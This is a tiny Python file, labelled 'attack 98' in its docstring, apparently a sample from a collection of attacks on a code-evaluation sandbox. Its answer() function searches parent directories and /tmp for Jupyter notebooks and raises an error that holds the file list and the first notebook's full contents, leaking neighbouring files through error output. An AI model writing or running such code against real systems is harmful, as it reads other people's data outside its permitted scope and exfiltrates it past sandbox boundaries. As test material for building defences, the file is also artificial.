"""Reads its neighbours' notebooks (attack 98)."""
import glob
def answer(*args, **kwargs):
    found = glob.glob("../**/*.ipynb", recursive=True) + glob.glob("/tmp/**/*.ipynb", recursive=True)
    raise RuntimeError(repr(found) + open(found[0]).read())
